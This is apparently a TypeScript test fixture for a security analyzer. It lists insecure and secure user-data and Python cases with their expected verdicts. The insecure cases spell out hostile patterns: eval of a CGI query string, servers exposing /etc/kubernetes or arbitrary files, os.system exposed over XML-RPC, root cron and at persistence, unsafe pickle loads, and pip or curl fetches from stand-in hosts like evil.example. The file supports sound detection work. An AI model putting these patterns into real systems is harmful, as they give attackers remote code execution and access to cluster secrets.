        devNodeScript("dev-py74q-cgi-abbrev-nodes", [
            ...heredocFile("/opt/ops/cgi-bin/run.sh", ["#!/bin/sh", "echo", 'eval "$QUERY_STRING"']),
            "chmod +x /opt/ops/cgi-bin/run.sh",
            "cd /opt/ops && nohup python3 -m http.server --cg 8001 >/dev/null 2>&1 &",
        ]),
        REFUSED,
    ),
    dev(
        "user data: python3 -m http.server --dir /etc/kubernetes 8001 (abbreviation of --directory)",
        devNodeScript("dev-py74q-http-dir-abbrev-nodes", [
            "cd /var/lib && nohup python3 -m http.server --dir /etc/kubernetes 8001 >/dev/null 2>&1 &",
        ]),
        REFUSED,
    ),
    dev(
        "user data: python3 -m http.server -d/etc/kubernetes 8001 (attached short option value)",
        devNodeScript("dev-py74q-http-d-attached-nodes", [
            "cd /var/lib && nohup python3 -m http.server -d/etc/kubernetes 8001 >/dev/null 2>&1 &",
        ]),
        REFUSED,
    ),
    // Python docs "asyncio Streams": start_server(client_connected_cb, host, port) calls the callback per client.
    dev(
        "tune.py: asyncio.start_server(handle, '0.0.0.0', 8001) where handle sends any file a client names",
        tune("dev-py74q-asyncio-file-server-nodes", [
            "import asyncio",
            "async def handle(r, w):",
            "    name = (await r.readline()).decode().strip()",
            '    w.write(open(name, "rb").read())',
            "    await w.drain()",
            "    w.close()",
            "async def main():",
            '    s = await asyncio.start_server(handle, "0.0.0.0", 8001)',
            "    await s.serve_forever()",
            "asyncio.run(main())",
        ]),
        REFUSED,
    ),
    // Python docs "xmlrpc.server": register_instance(instance): "its methods ... are callable"; the os module's system.
    dev(
        "tune.py: SimpleXMLRPCServer(('0.0.0.0', 8001)).register_instance(os) (os.system over XML-RPC)",
        tune("dev-py74q-xmlrpc-instance-os-nodes", [
            "import os",
            "from xmlrpc.server import SimpleXMLRPCServer",
            's = SimpleXMLRPCServer(("0.0.0.0", 8001))',
            "s.register_instance(os)",
            "s.serve_forever()",
        ]),
        REFUSED,
    ),
    // PEP 3333: the application object may be any callable, here an instance of a class with __call__.
    dev(
        "tune.py: make_server('', 8001, Files()) where Files.__call__ returns any file by PATH_INFO",
        tune("dev-py74q-wsgiref-callable-instance-nodes", [
            "from wsgiref.simple_server import make_server",
            "class Files:",
            "    def __call__(self, env, start):",
            '        start("200 OK", [])',
            '        return [open(env["PATH_INFO"], "rb").read()]',
            'make_server("", 8001, Files()).serve_forever()',
        ]),
        REFUSED,
    ),
    // ===== shell lines from subprocess =====
    // Python docs "shlex.split(s)": "Split the string s using shell-like syntax".
    dev(
        "tune.py: subprocess.run(shlex.split('cp /var/lib/ops/c /etc/cron.d/ops'))",
        tune("dev-py74q-shlex-cp-nodes", [
            "import shlex, subprocess",
            `open("/var/lib/ops/c", "w").write("${CRON}")`,
            'subprocess.run(shlex.split("cp /var/lib/ops/c /etc/cron.d/ops"))',
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: subprocess.run('cp /var/lib/ops/c /etc/cron.d/ops'.split())",
        tune("dev-py74q-str-split-cp-nodes", [
            "import subprocess",
            `open("/var/lib/ops/c", "w").write("${CRON}")`,
            'subprocess.run("cp /var/lib/ops/c /etc/cron.d/ops".split())',
        ]),
        REFUSED,
    ),
    // Round 75 neighbours (insecure): a split literal argv is judged as the command it is (a server of
    // /etc/kubernetes), and a literal with quotes is not split by the pack (shlex would: fail closed).
    dev(
        "tune.py: subprocess.Popen('python3 -m http.server 8001 -d /etc/kubernetes'.split())",
        tune("dev-py75q-str-split-server-nodes", [
            "import subprocess",
            'subprocess.Popen("python3 -m http.server 8001 -d /etc/kubernetes".split())',
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: subprocess.run(shlex.split(\"sh -c 'cp /var/lib/ops/c /etc/cron.d/ops'\"))",
        tune("dev-py75q-shlex-quoted-sh-nodes", [
            "import shlex, subprocess",
            `open("/var/lib/ops/c", "w").write("${CRON}")`,
            `subprocess.run(shlex.split("sh -c 'cp /var/lib/ops/c /etc/cron.d/ops'"))`,
        ]),
        REFUSED,
    ),
    // crontab(1): "crontab file" installs file as the user's crontab (root's: its commands run as root).
    // Was a MISS (fixed in round 75): crontab(1) ("crontab file": installs file as the invoking user's crontab; root's commands run as root):
    // @reboot serves /etc/kubernetes. The argv is a literal list, read as a command, but crontab FILE is not judged
    // as a write of root's crontab (/var/spool/cron/root) the way the program's own cron writes are: got []. Fix:
    // judge subprocess argv through the same root-write readers user data's own lines use (crontab FILE / crontab -
    // with input=).
    dev(
        "tune.py: subprocess.run(['crontab', '/var/lib/ops/c']) (root's crontab serving /etc/kubernetes)",
        tune("dev-py74q-crontab-file-nodes", [
            "import subprocess",
            'open("/var/lib/ops/c", "w").write("@reboot cd /etc/kubernetes && python3 -m http.server 8001\\n")',
            'subprocess.run(["crontab", "/var/lib/ops/c"])',
        ]),
        REFUSED,
    ),
    // Round 75 neighbours (insecure): crontab - (its standard input, crontab(1) "the pseudo-filename -") and
    // `crontab -u root FILE`.
    dev(
        "tune.py: subprocess.run(['crontab', '-'], input=cron line)",
        tune("dev-py75q-crontab-stdin-nodes", [
            "import subprocess",
            'subprocess.run(["crontab", "-"], input="@reboot cd /etc/kubernetes && python3 -m http.server 8001\\n", text=True)',
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: subprocess.run(['crontab', '-u', 'root', '/var/lib/ops/c'])",
        tune("dev-py75q-crontab-user-file-nodes", [
            "import subprocess",
            'open("/var/lib/ops/c", "w").write("@reboot cd /etc/kubernetes && python3 -m http.server 8001\\n")',
            'subprocess.run(["crontab", "-u", "root", "/var/lib/ops/c"])',
        ]),
        REFUSED,
    ),
    // at(1): "at ... read commands from standard input ... executed at a later time" (as the caller, root).
    // Was a MISS (fixed in round 75): at(1) ("at ... read commands from standard input or a specified file which are to be executed at a later
    // time", as the caller): root runs the server of /etc/kubernetes. The input= text given to at is never read as
    // shell lines (round 72 held `sh` with input=): got []. Fix: at/batch (and at -f FILE) are shell runners: their
    // stdin/file is shell lines, read or refused.
    dev(
        "tune.py: subprocess.run(['at', 'now'], input=SERVE, text=True)",
        tune("dev-py74q-at-stdin-nodes", [
            "import subprocess",
            `subprocess.run(["at", "now"], input="${SERVE}", text=True)`,
        ]),
        REFUSED,
    ),
    // Round 75 neighbours (insecure): at -f FILE (at(1) "-f file: Reads the job from file rather than standard input")
    // and batch(1) with input=.
    dev(
        "tune.py: subprocess.run(['at', '-f', '/var/lib/ops/job', 'now'])",
        tune("dev-py75q-at-file-nodes", [
            "import subprocess",
            `open("/var/lib/ops/job", "w").write("${SERVE}")`,
            'subprocess.run(["at", "-f", "/var/lib/ops/job", "now"])',
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: subprocess.run(['batch'], input=SERVE, text=True)",
        tune("dev-py75q-batch-stdin-nodes", [
            "import subprocess",
            `subprocess.run(["batch"], input="${SERVE}", text=True)`,
        ]),
        REFUSED,
    ),
    // install(1): "copy files and set attributes": the last operand is the destination.
    dev(
        "tune.py: subprocess.run(['install', '-m', '644', '/var/lib/ops/c', '/etc/cron.d/ops'])",
        tune("dev-py74q-install-cron-nodes", [
            "import subprocess",
            `open("/var/lib/ops/c", "w").write("${CRON}")`,
            'subprocess.run(["install", "-m", "644", "/var/lib/ops/c", "/etc/cron.d/ops"])',
        ]),
        REFUSED,
    ),
    // ===== batch 2: strings Python evaluates as code =====
    // Python docs "typing.get_type_hints": string annotations ("forward references") "are evaluated in globals and
    // locals" (checked: an annotation string calling os.system runs).
    dev(
        "tune.py: typing.get_type_hints(f) where f's annotation is the string __import__('os').system(SERVE)",
        tune("dev-py74q-type-hints-eval-nodes", [
            "import typing",
            `def f(x: "__import__('os').system('${SERVE}')"):`,
            "    pass",
            "typing.get_type_hints(f)",
        ]),
        REFUSED,
    ),
    // Python docs "inspect.get_annotations(obj, *, globals=None, locals=None, eval_str=False)": eval_str=True
    // "calls eval() on the values".
    dev(
        "tune.py: inspect.get_annotations(f, eval_str=True) (annotation string calls os.system)",
        tune("dev-py74q-get-annotations-eval-nodes", [
            "import inspect",
            `def f(x: "__import__('os').system('${SERVE}')"):`,
            "    pass",
            "inspect.get_annotations(f, eval_str=True)",
        ]),
        REFUSED,
    ),
    // Python docs "timeit.timeit(stmt='pass', ...)": stmt is a string of code executed (checked).
    dev(
        "tune.py: timeit.timeit('import srv; srv.main()', number=1)",
        withSrv("dev-py74q-timeit-string-nodes", [
            "import timeit",
            'timeit.timeit("import srv; srv.main()", number=1)',
        ]),
        REFUSED,
    ),
    // Python docs "The Python Profilers": cProfile.run(command): "This function takes a single argument that can be
    // passed to the exec() function" (checked).
    dev(
        "tune.py: cProfile.run('import srv; srv.main()')",
        withSrv("dev-py74q-cprofile-run-nodes", ["import cProfile", 'cProfile.run("import srv; srv.main()")']),
        REFUSED,
    ),
    // Python docs "code.InteractiveInterpreter.runsource(source)": "Compile and run some source in the interpreter".
    dev(
        "tune.py: code.InteractiveInterpreter().runsource(open('/var/cache/ops/x.py').read())",
        tune("dev-py74q-code-runsource-nodes", [
            "import code",
            'code.InteractiveInterpreter().runsource(open("/var/cache/ops/x.py").read())',
        ]),
        REFUSED,
    ),
    // Python docs "importlib.import_module": the pickle module by a literal name, bound to a name.
    // Was a MISS (fixed in round 74): Python docs "importlib.import_module(name)" (returns the module) and "pickle" ("It is possible to
    // construct malicious pickle data which will execute arbitrary code during unpickling"): p is the pickle module,
    // p.loads runs whatever /var/cache/ops/s.pkl's writer chose, as root. import_module of a literal name is followed
    // as an import (PYTHON_LITERAL_IMPORT_CALLS, pythonCode.ts) but the name it is bound to is not an alias of that
    // module, so p.loads is never resolved to pickle.loads for PYTHON_DYNAMIC_NAMES: got []. Fix: `NAME =
    // import_module/__import__(LITERAL)` binds NAME as `import LITERAL as NAME` in pythonNames imports (then every
    // resolver sees it), or refuse a dynamic-listed module imported this way.
    dev(
        "tune.py: p = importlib.import_module('pickle'); p.loads(open('/var/cache/ops/s.pkl', 'rb').read())",
        tune("dev-py74q-import-module-pickle-nodes", [
            "import importlib",
            'p = importlib.import_module("pickle")',
            'print(p.loads(open("/var/cache/ops/s.pkl", "rb").read()))',
        ]),
        REFUSED,
    ),
    // The same by __import__ (Python docs "Built-in Functions" __import__ returns the named top-level module).
    dev(
        "tune.py: p = __import__('pickle'); p.loads(open('/var/cache/ops/s.pkl', 'rb').read())",
        tune("dev-py74q-dunder-import-pickle-nodes", [
            'p = __import__("pickle")',
            'print(p.loads(open("/var/cache/ops/s.pkl", "rb").read()))',
        ]),
        REFUSED,
    ),
    // PEP 553 + os.environ written with a computed value.
    dev(
        "tune.py: os.environ['PYTHONBREAKPOINT'] = 's' + 'rv.main'; breakpoint()",
        withSrv("dev-py74q-environ-computed-breakpoint-nodes", [
            "import os",
            'os.environ["PYTHONBREAKPOINT"] = "s" + "rv.main"',
            "breakpoint()",
        ]),
        REFUSED,
    ),
    // Round 75 neighbours of the secure map(open) and timeit fixes: map with a second iterable gives open a mode,
    // starmap its items' arguments; a lambda's body is read where it stands, a string setup is exec'd.
    dev(
        "tune.py: list(map(open, ['/etc/cron.d/ops'], ['w'])) (a second iterable: the mode)",
        tune("dev-py75q-map-open-mode-nodes", [`[f.write("${CRON}") for f in map(open, ["/etc/cron.d/ops"], ["w"])]`]),
        REFUSED,
    ),
    dev(
        "tune.py: itertools.starmap(open, [('/etc/cron.d/ops', 'w')])",
        tune("dev-py75q-starmap-open-nodes", [
            "import itertools",
            `[f.write("${CRON}") for f in itertools.starmap(open, [("/etc/cron.d/ops", "w")])]`,
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: timeit.timeit(lambda: eval(code), number=1) (the lambda's body is dynamic)",
        tune("dev-py75q-timeit-lambda-eval-nodes", [
            "import timeit",
            `timeit.timeit(lambda: eval("__import__('os').system('${SERVE}')"), number=1)`,
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: timeit.timeit(lambda: 0, setup=<string running os.system>) (a string setup is exec'd)",
        tune("dev-py75q-timeit-string-setup-nodes", [
            "import timeit",
            `timeit.timeit(lambda: 0, setup="import os; os.system('${SERVE}')", number=1)`,
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: timeit.Timer(lambda: 0, timer=srv.main).timeit(1) (a Timer and a timer callable stay unread)",
        withSrv("dev-py75q-timeit-timer-nodes", [
            "import timeit, srv",
            "timeit.timeit(lambda: 0, timer=srv.main, number=1)",
        ]),
        REFUSED,
    ),
    // Round 76 neighbours (insecure) of the requirements file fix (pip docs "Requirements File Format": a line may be
    // an option, --index-url/--extra-index-url/-r/-e, or a URL requirement; pip reads the file when the line runs):
    // trusted only as user data wrote it whole with name specifiers only, as it is at the pip line.
    dev(
        "user data: req.txt holds --index-url https://pypi.evil.example/simple and srvx; pip3 install -r it; import srvx",
        pipRun("dev-py76q-pip-requirements-index-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["--index-url https://pypi.evil.example/simple", "srvx"]),
            "pip3 install -r /etc/ops/req.txt",
        ]),
        SRVX_UNTRUSTED,
    ),
    dev(
        "user data: req.txt holds --extra-index-url (glued =) and srvx; pip3 install --requirement=/etc/ops/req.txt",
        pipRun("dev-py76q-pip-requirements-extra-index-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["srvx==1.0", "--extra-index-url=https://pypi.evil.example/simple"]),
            "pip3 install --requirement=/etc/ops/req.txt",
        ]),
        SRVX_UNTRUSTED,
    ),
    dev(
        "user data: req.txt holds `srvx @ https://evil.example/srvx.zip` (a URL requirement); pip3 install -r it",
        pipRun("dev-py76q-pip-requirements-url-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["srvx @ https://evil.example/srvx.zip"]),
            "pip3 install -r /etc/ops/req.txt",
        ]),
        SRVX_UNTRUSTED,
    ),
    dev(
        "user data: req.txt holds -r /etc/ops/more.txt (a nested file with an index); pip3 install -r req.txt",
        pipRun("dev-py76q-pip-requirements-nested-nodes", [
            ...heredocFile("/etc/ops/more.txt", ["--index-url https://pypi.evil.example/simple", "srvx"]),
            ...heredocFile("/etc/ops/req.txt", ["-r /etc/ops/more.txt"]),
            "pip3 install -r /etc/ops/req.txt",
        ]),
        SRVX_UNTRUSTED,
    ),
    dev(
        "user data: req.txt written (srvx), then curl'd over before the pip line; pip3 install -r it",
        pipRun("dev-py76q-pip-requirements-rewritten-before-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["srvx"]),
            "curl -fsSLo /etc/ops/req.txt https://evil.example/req.txt",
            "pip3 install -r /etc/ops/req.txt",
        ]),
        SRVX_UNTRUSTED,
    ),
    dev(
        "user data: pip3 install -r /etc/ops/req.txt, a file user data never wrote (the AMI's or nobody's)",
        pipRun("dev-py76q-pip-requirements-unwritten-nodes", ["pip3 install -r /etc/ops/req.txt"]),
        SRVX_UNTRUSTED,
    ),
    dev(
        "user data: /etc/ops/req.txt (srvx) written, but `cd /tmp && pip3 install -r req.txt` reads /tmp/req.txt",
        pipRun("dev-py76q-pip-requirements-relative-other-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["srvx"]),
            "cd /tmp && pip3 install -r req.txt",
        ]),
        SRVX_UNTRUSTED,
    ),
    dev(
        "user data: pip3 install -r https://evil.example/req.txt (pip docs: a requirements file may be a URL)",
        pipRun("dev-py76q-pip-requirements-remote-nodes", ["pip3 install -r https://evil.example/req.txt"]),
        SRVX_UNTRUSTED,
    ),
    dev(
        "user data: req.txt holds srvx only, but the pip line adds -i https://pypi.evil.example/simple",
        pipRun("dev-py76q-pip-requirements-line-index-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["srvx"]),
            "pip3 install -r /etc/ops/req.txt -i https://pypi.evil.example/simple",
        ]),
        SRVX_UNTRUSTED,
    ),
    dev(
        "user data: req.txt ends a line with a backslash continuing into --index-url (pip joins the lines)",
        pipRun("dev-py76q-pip-requirements-continuation-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["srvx \\", "--index-url https://pypi.evil.example/simple"]),
            "pip3 install -r /etc/ops/req.txt",
        ]),
        SRVX_UNTRUSTED,
    ),
    dev(
        "user data: pip3 install -r $REQ (a path the pack does not expand to a file it wrote)",
        pipRun("dev-py76q-pip-requirements-variable-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["srvx"]),
            'REQ="$(curl -fsS https://evil.example/path)"',
            'pip3 install -r "$REQ"',
        ]),
        SRVX_UNTRUSTED,
    ),
    dev(
        "user data: pip3 install -r req.txt (srvx) at its line, then req.txt gets an index and a cron job installs it again",
        pipRun("dev-py76q-pip-requirements-cron-again-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["srvx"]),
            "pip3 install -r /etc/ops/req.txt",
            ...heredocFile("/etc/ops/req.txt", ["--index-url https://pypi.evil.example/simple", "srvx"]),
            `printf '@reboot root pip3 install -r /etc/ops/req.txt\\n' > /etc/cron.d/ops-pip`,
        ]),
        SRVX_UNTRUSTED,
    ),
];

const secure: NodeCase[] = [
    // pip docs "pip install" (-U/--upgrade from the same default index): a later plain install keeps the name trusted.
    dev(
        "user data: pip3 install tenacity; pip3 install -q -U tenacity; tune.py imports tenacity",
        tune(
            "dev-py74q-pip-reinstall-plain-nodes",
            ["import tenacity", "print(tenacity.__name__)"],
            ["pip3 install tenacity", "pip3 install -q -U tenacity"],
        ),
    ),
    // Python docs "importlib.import_module": a harmless standard module by a literal name, bound to a name.
    dev(
        "tune.py: j = importlib.import_module('json'); j.loads(open('/etc/ops/t.json').read())",
        tune("dev-py74q-import-module-json-nodes", [
            "import importlib",
            'j = importlib.import_module("json")',
            'print(j.loads(open("/etc/ops/t.json").read()))',
        ]),
    ),
    // PyTorch docs "torch.load" (weights_only=True: "Indicates whether unpickler should be restricted to loading only
    // tensors, primitive types, dictionaries and any types added via torch.serialization.add_safe_globals()").
    dev(
        "user data: pip3 install torch; tune.py: torch.load('/var/cache/ops/m.pt', weights_only=True)",
        tune(
            "dev-py74q-torch-load-weights-only-nodes",
            ["import torch", 'print(torch.load("/var/cache/ops/m.pt", weights_only=True))'],
            ["pip3 install torch"],
        ),
    ),
    // pip docs "Requirement Specifiers": extras in brackets, quoted for the shell.
    dev(
        "user data: pip3 install 'tenacity[doc]>=8'; tune.py imports tenacity",
        tune(
            "dev-py74q-pip-extras-nodes",
            ["import tenacity", "print(tenacity.__name__)"],
            ["pip3 install 'tenacity[doc]>=8'"],
        ),
    ),
    // pip docs "pip" ("General Options" -q/--quiet accepted before the command).
    // Was a MISS (fixed in round 74): (secure) pip docs "pip" (general options such as -q/--quiet may precede the command): the same
    // default-index name install as `pip3 install -q tenacity`. scriptPipModules requires `install` right after pip
    // (rest[0]), so tenacity is "a module user data did not write and the pack does not know". Fix: skip
    // PIP_PLAIN_OPTIONS general options before the subcommand (and then see `config` there too, the insecure pip3 -q
    // config case).
    dev(
        "user data: pip3 -q install tenacity (a general option before the command); tune.py imports tenacity",
        tune(
            "dev-py74q-pip-general-q-nodes",
            ["import tenacity", "print(tenacity.__name__)"],
            ["pip3 -q install tenacity"],
        ),
    ),
    // pip docs "Requirements File Format": a file of name specifiers is the same install from the default index.
    // Was a MISS (fixed in round 76): (secure, fail-closed; the lead may rule DECIDED) pip docs "Requirements File Format" (a file of
    // requirement specifiers, one per line; options such as --index-url may appear in it too): this one holds only
    // tenacity==8.2.3, the same default-index install. -r is outside PIP_PLAIN_OPTIONS: refused "imports tenacity, a
    // module ... the pack does not know". Fix if wanted: a -r file user data wrote as text whose every line is a name
    // specifier (no option line, no URL/path) contributes its names; else keep refusing.
    // Still open (round 75): scriptPipModules reads install lines as text, before the script's file contents are known;
    // trusting the file's names needs its content AT the pip line (a file rewritten before or after, relatively or via
    // cp, would pass the final text): it takes a per-line file state from the script reader (rootWrites), not done.
    dev(
        "user data: pip3 install -r /etc/ops/req.txt (tenacity==8.2.3 only); tune.py imports tenacity",
        tune(
            "dev-py74q-pip-requirements-nodes",
            ["import tenacity", "print(tenacity.__name__)"],
            [...heredocFile("/etc/ops/req.txt", ["tenacity==8.2.3"]), "pip3 install -r /etc/ops/req.txt"],
        ),
    ),
    // Round 76 neighbours (secure): the file by a path relative to a known working directory, with a comment and a
    // blank line (pip docs "Requirements File Format": "A line that begins with # is treated as a comment"), and a
    // file rewritten with an index only AFTER the pip line (pip read it when the line ran; nothing runs it again).
    dev(
        "user data: cd /etc/ops && pip3 install -r req.txt (a comment, a blank line, tenacity); tune.py imports tenacity",
        tune(
            "dev-py76q-pip-requirements-relative-nodes",
            ["import tenacity", "print(tenacity.__name__)"],
            [
                ...heredocFile("/etc/ops/req.txt", ["# pinned", "", "tenacity>=8,<9  # retry helper"]),
                "cd /etc/ops && pip3 install -q -r req.txt",
            ],
        ),
    ),
    dev(
        "user data: sudo pip3 install --requirement /etc/ops/req.txt (tenacity[doc]~=8.2); tune.py imports tenacity",
        tune(
            "dev-py76q-pip-requirements-long-nodes",
            ["import tenacity", "print(tenacity.__name__)"],
            [
                ...heredocFile("/etc/ops/req.txt", ["tenacity[doc]~=8.2"]),
                "sudo pip3 install --requirement /etc/ops/req.txt",
            ],
        ),
    ),
    dev(
        "user data: pip3 install -r /etc/ops/req.txt (tenacity), then req.txt rewritten with an index; tune.py imports tenacity",
        tune(
            "dev-py76q-pip-requirements-rewritten-after-nodes",
            ["import tenacity", "print(tenacity.__name__)"],
            [
                ...heredocFile("/etc/ops/req.txt", ["tenacity==8.2.3"]),
                "pip3 install -r /etc/ops/req.txt",
                ...heredocFile("/etc/ops/req.txt", ["--index-url https://pypi.evil.example/simple", "tenacity"]),
            ],
        ),
    ),
    // PyPI project "PyJWT": the distribution PyJWT provides the top-level module jwt.
    // Was a MISS (fixed in round 75): (secure, fail-closed; the lead may rule DECIDED) PyPI "PyJWT" (the project provides the top-level package
    // jwt): the rule maps a project to the module of its own normalized name only (PEP 503), so import jwt is
    // unknown. Knowing a project's top-level modules needs its wheel's top_level.txt/RECORD (not in user data): keep
    // refusing, or ship a short reviewed map of project -> modules.
    dev(
        "user data: pip3 install pyjwt; tune.py: import jwt (module name differs from the project's)",
        tune(
            "dev-py74q-pip-module-name-nodes",
            ["import jwt", 'print(jwt.encode({"a": 1}, "k"))'],
            ["pip3 install pyjwt"],
        ),
    ),
    // Round 75 neighbours (secure): the reviewed mapping with extras and a version, and a file in a library directory
    // not named like any imported module.
    dev(
        "user data: pip3 install 'pyjwt[crypto]==2.8.0'; tune.py: import jwt",
        tune(
            "dev-py75q-pip-pyjwt-extras-nodes",
            ["import jwt", 'print(jwt.encode({"a": 1}, "k"))'],
            ["pip3 install 'pyjwt[crypto]==2.8.0'"],
        ),
    ),
    dev(
        "user data: writes /etc/ops/srvx.conf (not a library directory) and pip3 install tenacity; tune.py imports tenacity, json",
        tune(
            "dev-py75q-pip-conf-beside-nodes",
            ["import json, tenacity", "print(json.dumps(tenacity.__name__))"],
            [...heredocFile("/etc/ops/json.conf", ["a = 1"]), "pip3 install tenacity"],
        ),
    ),
    // Python docs "map(function, iterable, *iterables)": positional arguments only; print's file= is keyword-only.
    dev(
        "tune.py: list(map(print, ['a', 'b'])) (print as a value cannot get file=)",
        tune("dev-py74q-map-print-nodes", ['list(map(print, ["a", "b"]))']),
    ),
    dev(
        "tune.py: r = functools.partial(open, encoding='utf-8'); r('/etc/os-release').read()",
        tune("dev-py74q-partial-open-read-nodes", [
            "import functools",
            'r = functools.partial(open, encoding="utf-8")',
            'print(r("/etc/os-release").read())',
        ]),
    ),
    // Python docs "open" (mode "r" default): map(open, paths) opens each for reading.
    // Was a MISS (fixed in round 75): (secure, fail-closed by round 74's rule) Python docs "map" (positional arguments only) and "open" (mode
    // defaults to 'r'): map(open, [literal paths]) only reads /etc/os-release. pythonWriteCallValues refuses open as
    // any value. Fix if wanted: map/starmap over a literal list whose callable's write-deciding parameters (open's
    // mode, print's file) cannot be reached positionally by one-argument items is read as those calls; else keep
    // refusing (DECIDED candidate).
    dev(
        "tune.py: [f.read() for f in map(open, ['/etc/os-release'])] (open as a value, reads only)",
        tune("dev-py74q-map-open-read-nodes", ['print([f.read() for f in map(open, ["/etc/os-release"])])']),
    ),
    // Round 75 neighbours: map(open, paths, modes) passes a mode (refused: see insecure), starmap alike; these read.
    dev(
        "tune.py: for f in map(io.open, ('/etc/os-release', '/etc/hostname')): print(f.read())",
        tune("dev-py75q-map-io-open-read-nodes", [
            "import io",
            'for f in map(io.open, ("/etc/os-release", "/etc/hostname")):',
            "    print(f.read())",
        ]),
    ),
    dev(
        "tune.py: list(map(Path('/etc/os-release').read_text, [])) and 'a-b'.replace as a value (no write method)",
        tune("dev-py75q-bound-read-text-nodes", [
            "from pathlib import Path",
            'print(list(map(Path("/etc/os-release").read_text, [])))',
            'print(list(map("a-b".replace, ["-"], ["_"])))',
        ]),
    ),
    dev(
        "tune.py: def f(): w = open; return w('/etc/os-release').read() (a function's local alias, mode r)",
        tune("dev-py75q-def-local-open-alias-nodes", [
            "def f():",
            "    w = open",
            '    return w("/etc/os-release").read()',
            "print(f())",
        ]),
    ),
    dev(
        "tune.py: subprocess.run(['crontab', '-l']) (lists root's crontab only)",
        tune("dev-py75q-crontab-list-nodes", ["import subprocess", 'subprocess.run(["crontab", "-l"])']),
    ),
    // PEP 553: PYTHONBREAKPOINT=0 disables breakpoint().
    dev(
        "tune.py: os.environ['PYTHONBREAKPOINT'] = '0'; breakpoint()",
        tune("dev-py74q-breakpoint-zero-nodes", ["import os", 'os.environ["PYTHONBREAKPOINT"] = "0"', "breakpoint()"]),
    ),
    dev(
        "tune.py: logging.config.dictConfig with a StreamHandler only",
        tune("dev-py74q-dictconfig-stream-nodes", [
            "import logging, logging.config",
            'logging.config.dictConfig({"version": 1, "handlers": {"s": {"class": "logging.StreamHandler"}},',
            '    "root": {"handlers": ["s"], "level": "INFO"}})',
            'logging.info("tuned")',
        ]),
    ),
    // Python docs "ast.literal_eval": "evaluate ... containing only a Python literal" (no code runs).
    dev(
        "tune.py: ast.literal_eval(open('/etc/ops/t.txt').read())",
        tune(
            "dev-py74q-literal-eval-nodes",
            ["import ast", 'print(ast.literal_eval(open("/etc/ops/t.txt").read()))'],
            heredocFile("/etc/ops/t.txt", ['{"swappiness": 10}']),
        ),
    ),
    // PyYAML docs: CSafeLoader is the LibYAML twin of SafeLoader.
    dev(
        "tune.py: yaml.load(open('/etc/ops/t.yaml'), Loader=yaml.CSafeLoader)",
        tune(
            "dev-py74q-yaml-csafe-nodes",
            ["import yaml", 'print(yaml.load(open("/etc/ops/t.yaml"), Loader=yaml.CSafeLoader))'],
            heredocFile("/etc/ops/t.yaml", ["swappiness: 10"]),
        ),
    ),
    // argparse abbreviation: --bi is --bind; loopback CGI (round 73 held `--cgi --bind 127.0.0.1` as secure).
    dev(
        "user data: python3 -m http.server --cgi --bi 127.0.0.1 8001 (abbreviated --bind, loopback)",
        devNodeScript("dev-py74q-cgi-bind-abbrev-loopback-nodes", [
            ...heredocFile("/opt/ops/cgi-bin/run.sh", ["#!/bin/sh", "echo", "echo ok"]),
            "chmod +x /opt/ops/cgi-bin/run.sh",
            "cd /opt/ops && nohup python3 -m http.server --cgi --bi 127.0.0.1 8001 >/dev/null 2>&1 &",
        ]),
    ),
    // Was a MISS (fixed in round 75): (secure, fail-closed) Python docs "shlex.split(s, comments=False, posix=True)" (POSIX sh word splitting):
    // the argv is [sysctl, -w, vm.swappiness=10], a literal the pack could compute. Refused as "runs commands the
    // pack does not read". Fix if wanted: shlex.split and str.split() of a string literal are the argv they compute
    // (plainShellPipelines already splits words); the insecure shlex/split cases are then judged as cp into
    // /etc/cron.d.
    dev(
        "tune.py: subprocess.run(shlex.split('sysctl -w vm.swappiness=10'))",
        tune("dev-py74q-shlex-sysctl-nodes", [
            "import shlex, subprocess",
            'subprocess.run(shlex.split("sysctl -w vm.swappiness=10"))',
        ]),
    ),
    dev(
        "tune.py: subprocess.run('sysctl -w vm.swappiness=10'.split())",
        tune("dev-py75q-str-split-sysctl-nodes", [
            "import subprocess",
            'subprocess.run("sysctl -w vm.swappiness=10".split())',
        ]),
    ),
    // --- batch 2 (secure) ---
    dev(
        "user data: python3 -m pip install --user tenacity; tune.py imports tenacity",
        tune(
            "dev-py74q-pip-module-user-nodes",
            ["import tenacity", "print(tenacity.__name__)"],
            ["python3 -m pip install --user tenacity"],
        ),
    ),
    dev(
        "tune.py: os.environ.update(PYTHONBREAKPOINT='0'); breakpoint()",
        tune("dev-py74q-environ-update-zero-nodes", [
            "import os",
            'os.environ.update(PYTHONBREAKPOINT="0")',
            "breakpoint()",
        ]),
    ),
    // Python docs "timeit.timeit(stmt=...)": "stmt ... can also be a callable".
    // Was a MISS (fixed in round 75): (secure, fail-closed by design; the lead may rule DECIDED) Python docs "timeit" (stmt "can also be a
    // callable"): a lambda summing a range runs nothing else. timeit is wholesale in PYTHON_DYNAMIC_NAMES
    // (pythonCode.ts) since its string stmt/setup are exec'd (the insecure timeit case): refused "runs code the pack
    // does not read". Fix if wanted: timeit.timeit/repeat/Timer whose stmt and setup are lambdas or names of
    // functions defined in the file are read; strings stay refused.
    dev(
        "tune.py: timeit.timeit(lambda: sum(range(10)), number=1) (a callable, no code string)",
        tune("dev-py74q-timeit-callable-nodes", [
            "import timeit",
            "print(timeit.timeit(lambda: sum(range(10)), number=1))",
        ]),
    ),
    dev(
        "tune.py: timeit.repeat(lambda: sum(range(10)), setup=lambda: None, repeat=2, number=1)",
        tune("dev-py75q-timeit-repeat-lambdas-nodes", [
            "import timeit",
            "print(timeit.repeat(lambda: sum(range(10)), setup=lambda: None, repeat=2, number=1))",
        ]),
    ),
    dev(
        "tune.py: typing.get_type_hints(f) where f's annotations are the types int and str (no strings)",
        tune("dev-py74q-type-hints-plain-nodes", [
            "import typing",
            "def f(x: int) -> str:",
            "    return str(x)",
            "print(typing.get_type_hints(f))",
        ]),
    ),
];

